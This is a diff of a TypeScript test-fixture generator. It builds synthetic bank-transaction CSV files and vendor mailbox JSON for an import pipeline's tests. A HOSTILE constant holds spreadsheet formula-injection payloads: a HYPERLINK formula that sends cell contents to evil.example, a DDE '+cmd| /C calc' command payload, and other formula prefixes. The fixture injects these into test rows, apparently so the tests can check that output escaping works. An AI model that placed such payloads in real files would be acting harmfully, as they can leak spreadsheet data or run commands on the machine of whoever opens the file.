@@ -21,7 +21,7 @@ const TYPES = ['wire', 'card', 'cash', 'sepa', 'crypto']
 export const HOSTILE = {
   txn: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
   customer: '@SUM(A1:A9)',
-  branch: '+cmd|\' /C calc\'!A0',
+  branch: "+cmd|' /C calc'!A0",
   subject: '-2+3 wire to "Acme"',
   message: '\t=1+1'
 }
@@ -51,12 +51,26 @@ function transactions(tag: string, spec: ImportSpec): string {
     // both sides of its SLA target.
     const delayMin = i % 4 ? (i * 13) % 12 : (i * 7919) % 2880
     const created = new Date(at - delayMin * 60_000 - (i % 60) * 1000).toISOString()
-    lines.push([`T${tag}${String(i).padStart(5, '0')}`, `C${(i * 31) % 997}`, ((i * 1237) % 90_000).toFixed(2), 'USD', COUNTRIES[i % 8]!, TYPES[i % 5]!, String((i * 37) % 101), created, csvCell(i % 3 ? 'London' : 'Zurich, CH')].join(','))
+    lines.push(
+      [
+        `T${tag}${String(i).padStart(5, '0')}`,
+        `C${(i * 31) % 997}`,
+        ((i * 1237) % 90_000).toFixed(2),
+        'USD',
+        COUNTRIES[i % 8]!,
+        TYPES[i % 5]!,
+        String((i * 37) % 101),
+        created,
+        csvCell(i % 3 ? 'London' : 'Zurich, CH')
+      ].join(',')
+    )
   }
   for (let i = 1; i <= (spec.duplicates ?? 0); i++) lines.push(lines[i]!)
   for (let i = 1; i <= (spec.bad ?? 0); i++) lines.push(`B${tag}${i},C1,12O${i}.00,USD,GB,wire,10,${spec.at},London`)
   if (spec.hostile) {
-    lines.push([csvCell(HOSTILE.txn), HOSTILE.customer, '5000.00', 'USD', 'GB', 'wire', '95', new Date(at - 3600_000).toISOString(), csvCell(HOSTILE.branch)].join(','))
+    lines.push(
+      [csvCell(HOSTILE.txn), HOSTILE.customer, '5000.00', 'USD', 'GB', 'wire', '95', new Date(at - 3600_000).toISOString(), csvCell(HOSTILE.branch)].join(',')
+    )
   }
   return `${lines.join('\n')}\n`
 }
@@ -74,7 +88,15 @@ function mailbox(tag: string, spec: ImportSpec): string {
       severity_hint: hints[i % 5],
       created_at: new Date(at - ((i * 211) % 2000) * 60_000).toISOString()
     })
-  if (spec.hostile) mails.push({ message_id: HOSTILE.message, vendor: null, subject: HOSTILE.subject, body: 'x', severity_hint: 'high', created_at: new Date(at - 60_000).toISOString() })
+  if (spec.hostile)
+    mails.push({
+      message_id: HOSTILE.message,
+      vendor: null,
+      subject: HOSTILE.subject,
+      body: 'x',
+      severity_hint: 'high',
+      created_at: new Date(at - 60_000).toISOString()
+    })
   mails.push({ message_id: `<${tag}.bad@vendor.example>`, vendor: null, subject: '', body: 'no subject', severity_hint: null, created_at: spec.at })
   return JSON.stringify(mails, null, 2)
 }
@@ -98,7 +120,10 @@ export async function buildHistory(dbPath: string, imports: ImportSpec[], s: Set
         files.push(join(dir, `mail-${tag}.json`))
         writeFileSync(files[1]!, mailbox(tag, spec))
       }
-      const summary = await executeRun({ store, settings: s, ruleSet: rules[spec.rules ?? 'default']!, trigger: 'test', parallel: 'never' }, explicitFiles(files))
+      const summary = await executeRun(
+        { store, settings: s, ruleSet: rules[spec.rules ?? 'default']!, trigger: 'test', parallel: 'never' },
+        explicitFiles(files)
+      )
       if (summary.status !== 'ok') throw new Error(`import ${tag} failed: ${summary.errors.join('; ')}`)
     }
   } finally {
@@ -125,7 +150,10 @@ export const PERIOD = { from: '2026-11-02T00:00:00.000Z', to: '2026-11-06T00:00:
  */
 export function recordDeliveryOutcomes(store: SqliteStore): void {
   const db = store.db
-  const rows = db.prepare("SELECT entry_id, destination FROM deliveries ORDER BY entry_id, destination").all() as Array<{ entry_id: number; destination: string }>
+  const rows = db.prepare('SELECT entry_id, destination FROM deliveries ORDER BY entry_id, destination').all() as Array<{
+    entry_id: number
+    destination: string
+  }>
   const attempt = db.prepare(`INSERT INTO delivery_attempts (entry_id, destination, attempt, started_at, finished_at, result, error)
     VALUES (?, ?, ?, '2026-11-05T10:00:00.000Z', '2026-11-05T10:00:01.000Z', ?, ?)`)
   const fallback = db.prepare(`INSERT INTO delivery_fallbacks (entry_id, failed_destination, action, target, reason, created_at)
